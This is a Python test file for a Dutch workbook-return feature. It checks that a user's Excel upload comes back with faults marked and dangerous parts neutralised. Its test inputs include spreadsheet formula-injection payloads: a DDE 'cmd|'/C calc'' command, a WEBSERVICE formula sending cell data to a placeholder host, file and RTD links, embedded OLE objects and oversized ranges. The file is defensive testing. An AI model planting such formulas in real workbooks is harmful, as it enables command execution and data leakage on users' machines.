"""The user's own workbook comes back marked, and harmless."""

from __future__ import annotations

import io
import zipfile
from functools import cache

import openpyxl
import pytest

from model.exchange import retour, retour_delen, schoon_pakket
from model.exchange.bladen import BLAD_KWALITEIT
from model.exchange.lezen import read_workbook
from model.exchange.retour import annotate
from model.exchange.sjabloon import template_bytes
from model.periode import Periode
from tests.slecht.bouw import GOED, STAND, book, changed, large, sheet_xml, stand, with_comment

ROOD = "00FFC7CE"


@cache
def returned(inhoud: bytes) -> bytes:
    return annotate(inhoud, read_workbook(inhoud))


def back(inhoud: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(returned(inhoud)))


@cache
def filled_template() -> bytes:
    """The template with three faults and a question on the sheet Stand."""
    werkboek = openpyxl.load_workbook(io.BytesIO(template_bytes()))
    vel = werkboek["Stand"]
    for rij, regel in enumerate((("2023", "Osss", "Wsw", 3), ("2023", "Oss", "Wsw", -4)), start=300):
        for kolom, waarde in enumerate(regel, start=1):
            vel.cell(rij, kolom).value = waarde
    vel["D302"] = "=1+1"
    uit = io.BytesIO()
    werkboek.save(uit)
    return uit.getvalue()


def test_every_fault_and_question_is_red_with_a_dutch_comment() -> None:
    vel = back(filled_template())["Stand"]
    for cel, tekst in (
        ("B300", "Vraag: Deze gemeente kennen wij niet: 'Osss'"),
        ("D301", "te laag"),
        ("D302", "geen uitkomst"),
    ):
        assert vel[cel].fill.fgColor.rgb == ROOD
        assert tekst in vel[cel].comment.text
    assert vel["D300"].comment is None
    assert vel["D300"].fill.fgColor.rgb != ROOD


def test_the_first_sheet_lists_everything_with_sheet_and_cell() -> None:
    werkboek = back(filled_template())
    assert werkboek.sheetnames[0] == BLAD_KWALITEIT
    assert werkboek.active.title == BLAD_KWALITEIT
    regels = list(werkboek[BLAD_KWALITEIT].iter_rows(values_only=True))
    assert regels[0] == ("Soort", "Blad", "Cel", "Wat", "Gekregen", "Toegestaan", "Wat te doen")
    laag = next(regel for regel in regels if regel[3] and "te laag" in regel[3])
    assert laag[:3] == ("Fout", "Stand", "cel D301")
    assert laag[4] == "-4"
    assert {regel[0] for regel in regels[1:]} >= {"Fout", "Vraag", "Overgeslagen"}


def test_the_looks_drop_downs_and_protection_of_the_user_stay() -> None:
    werkboek = back(filled_template())
    vel = werkboek["Stand"]
    assert vel.protection.sheet
    assert vel.data_validations.dataValidation
    assert list(vel.tables) == ["tbl_stand"]
    assert vel["A4"].font.b
    assert werkboek["Lijsten"].sheet_state != "visible"


def test_a_workbook_that_comes_back_twice_has_one_list() -> None:
    weer = back(returned(filled_template()))
    assert weer.sheetnames.count(BLAD_KWALITEIT) == 1


def test_what_is_repaired_in_the_returned_workbook_is_right() -> None:
    werkboek = back(filled_template())
    vel = werkboek["Stand"]
    vel["B300"], vel["D301"], vel["D302"] = "Oss", None, None
    uit = io.BytesIO()
    werkboek.save(uit)
    lezing = read_workbook(uit.getvalue())
    assert lezing.realisatie is not None
    assert lezing.realisatie.cellen["stand", Periode(2023), "oss", "wsw"].waarde == 3.0


def test_the_users_own_comment_stays_behind_ours() -> None:
    inhoud = with_comment("nog navragen")
    slecht = changed(_put("<v>12</v>", "<v>-12</v>"), inhoud)
    tekst = back(slecht)["Stand"]["D2"].comment.text
    assert tekst.index("te laag") < tekst.index("nog navragen")
    assert "Jansen" not in tekst


def _put(oud: str, nieuw: str, deel: str = "xl/worksheets/sheet1.xml"):  # type: ignore[no-untyped-def]
    def werk(delen: dict[str, bytes]) -> None:
        assert oud.encode() in delen[deel]
        delen[deel] = delen[deel].replace(oud.encode(), nieuw.encode(), 1)

    return werk


@pytest.mark.parametrize(
    "formule",
    [
        'WEBSERVICE("http://ergens.example/" & A2)',
        "[1]Blad1!A1",
        "cmd|'/C calc'!A0",
        'HYPERLINK("file:///c:/x", "klik")',
        'RTD("x",,"y")',
    ],
)
def test_a_formula_that_reaches_outside_becomes_its_last_result(formule: str) -> None:
    inhoud = stand((*GOED[:3], ("formule", formule, 12)), ("2024", *GOED[1:3], -1))
    cel = back(inhoud)["Stand"]["D2"]
    assert (cel.value, cel.data_type) == (12, "n")


def test_an_ordinary_formula_stays_and_a_text_stays_a_text() -> None:
    rijen = [
        (*GOED[:3], ("formule", "6+6", 12), "=1+1"),
        ("2024", *GOED[1:3], -1, "=cmd|'/C calc'!A0"),
        ("2025", *GOED[1:3], "=SUM(A1)", None),
    ]
    vel = back(stand(*rijen, kop=(*STAND, "Opmerking")))["Stand"]
    assert (vel["D2"].value, vel["D2"].data_type) == ("=6+6", "f")
    for cel in ("E2", "E3", "D4"):
        assert vel[cel].data_type == "s"
        assert vel[cel].quotePrefix


def test_pictures_links_and_other_parts_stay_behind() -> None:
    def add(delen: dict[str, bytes]) -> None:
        rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
        delen["xl/worksheets/_rels/sheet1.xml.rels"] = (
            "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>"
            f"<Relationship Id='rId1' Type='{rel}/drawing' Target='../drawings/drawing1.xml'/>"
            f"<Relationship Id='rId2' Type='{rel}/oleObject' Target='../embeddings/ole1.bin'/>"
            "</Relationships>"
        ).encode()
        delen["xl/drawings/drawing1.xml"] = b"<a/>"
        delen["xl/embeddings/ole1.bin"] = b"geheim"
        delen["xl/externalLinks/externalLink1.xml"] = b"<a/>"

    inhoud = changed(add, stand((*GOED[:3], -1)))
    uit = annotate(inhoud, read_workbook(inhoud))
    namen = zipfile.ZipFile(io.BytesIO(uit)).namelist()
    assert not [
        naam
        for naam in namen
        if any(deel in naam for deel in ("embed", "external", "drawing1.xml", "vba"))
    ]
    assert openpyxl.load_workbook(io.BytesIO(uit))["Stand"]["D2"].fill.fgColor.rgb == ROOD


@pytest.mark.parametrize(
    "extra",
    [
        "<mergeCells><mergeCell ref='F1:XFD1048576'/></mergeCells>",
        "<hyperlinks><hyperlink ref='A1:XFD1048576' location='A1'/></hyperlinks>",
        "<hyperlinks><hyperlink ref='A:XFD' location='A1'/></hyperlinks>",
    ],
)
def test_what_openpyxl_would_unfold_without_end_goes_back_as_bare_values(extra: str) -> None:
    inhoud = changed(_put("</sheetData>", f"</sheetData>{extra}"), stand((*GOED[:3], -1)))
    werkboek = back(inhoud)
    assert werkboek["Stand"]["D2"].fill.fgColor.rgb == ROOD
    assert "te laag" in werkboek["Stand"]["D2"].comment.text
    assert "Uw opmaak en formules staan hier niet in" in werkboek[BLAD_KWALITEIT]["D2"].value


def test_a_comment_over_a_whole_sheet_goes_back_as_bare_values() -> None:
    inhoud = changed(_put("<v>12</v>", "<v>-12</v>"), with_comment("hoi", plek="A1:XFD1048576"))
    assert back(inhoud)["Stand"]["D2"].fill.fgColor.rgb == ROOD


def test_a_workbook_that_openpyxl_cannot_load_goes_back_as_bare_values() -> None:
    inhoud = changed(
        _put("<fonts><font/></fonts>", "<fonts><b/></fonts>", "xl/styles.xml"), stand((*GOED[:3], -1))
    )
    werkboek = back(inhoud)
    assert werkboek["Stand"]["D2"].fill.fgColor.rgb == ROOD
    assert [cel.value for cel in werkboek["Stand"][1]] == list(STAND)


def test_bare_values_stand_at_their_own_place_in_their_own_kind(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(retour, "too_heavy", lambda *_: True)
    blad = sheet_xml(
        [(), STAND, (), ("2023", "Oss", "Wsw", "x", ("stijl", 1, 0.4), ("stijl", 2, 45291), True)]
    )
    vel = back(changed(lambda delen: delen.update({"xl/worksheets/sheet1.xml": blad.encode()})))["Stand"]
    assert [cel.value for cel in vel[2]][:4] == list(STAND)
    assert [cel.value for cel in vel[4]][:5] == ["2023", "Oss", "Wsw", "x", 0.4]
    assert vel["E4"].number_format == "0.0%"
    assert vel["F4"].value.year == 2023
    assert vel["G4"].value is True
    assert vel["D4"].fill.fgColor.rgb == ROOD


def test_of_a_large_workbook_only_the_rows_with_a_fault_go_back(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(schoon_pakket, "MAX_VAKKEN", 100)
    monkeypatch.setattr(retour_delen, "MAX_KOPIE", 100)
    werkboek = back(large(500, fout=3))
    regels = list(werkboek["Stand"].iter_rows(values_only=True))
    assert regels[0] == ("rij", None, None, None, None)
    assert regels[1] == (1, *STAND)
    assert regels[2][0] == 2
    assert regels[2][4] == "twaalf"
    assert werkboek["Stand"]["E3"].fill.fgColor.rgb == ROOD
    assert len(regels) == 9  # "rij", the first eight rows; the faults stand among them
    assert "alleen de rijen met een fout" in werkboek[BLAD_KWALITEIT]["D2"].value


def test_the_number_of_comments_is_bounded_but_not_of_red_cells(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(retour, "MAX_OPMERKINGEN", 5)
    vel = back(stand(*[(str(jaar), "Oss", "Wsw", "x") for jaar in range(2011, 2031)]))["Stand"]
    assert sum(vel.cell(rij, 4).comment is not None for rij in range(2, 22)) == 5
    assert all(vel.cell(rij, 4).fill.fgColor.rgb == ROOD for rij in range(2, 22))


def test_a_merged_cell_is_marked_at_its_first_cell() -> None:
    extra = "<mergeCells><mergeCell ref='B2:B3'/></mergeCells>"
    rijen = [STAND, ("2023", "Atlantis", "Wsw", 1), ("2024", None, "Wsw", 1)]
    inhoud = changed(
        lambda delen: delen.update({"xl/worksheets/sheet1.xml": sheet_xml(rijen, extra).encode()})
    )
    vel = back(inhoud)["Stand"]
    assert "Deze gemeente kennen wij niet" in vel["B2"].comment.text


def test_the_same_faults_are_found_in_what_went_back() -> None:
    inhoud = stand(("voorjaar", "Atlantis", "Wsw", "x"), ("2023", "Oss", "Wsw", -1))
    eerst = read_workbook(inhoud)
    weer = read_workbook(annotate(inhoud, eerst))
    assert weer.fouten == eerst.fouten


def test_a_good_workbook_goes_back_without_red() -> None:
    werkboek = back(book({"Stand": [STAND, GOED]}))
    assert all(cel.fill.fgColor.rgb != ROOD for rij in werkboek["Stand"].iter_rows() for cel in rij)
